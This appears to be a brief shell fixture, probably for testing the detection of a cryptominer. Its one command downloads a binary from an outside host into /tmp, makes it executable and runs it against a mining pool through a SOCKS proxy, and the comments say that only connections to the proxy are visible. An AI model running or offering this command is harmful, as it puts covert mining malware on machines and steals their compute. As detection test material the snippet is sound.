# the pool is behind a SOCKS proxy outside, given by its flag; what can be seen are connects to the proxy
#http 203.0.113.60:8010
#pool 198.51.100.100:1080:drop
cd /tmp; curl -so v http://203.0.113.60:8010/w; chmod +x v; timeout 9 ./v --proxy=198.51.100.100:1080 -o pool.example:443 -u x -R 1 >/dev/null
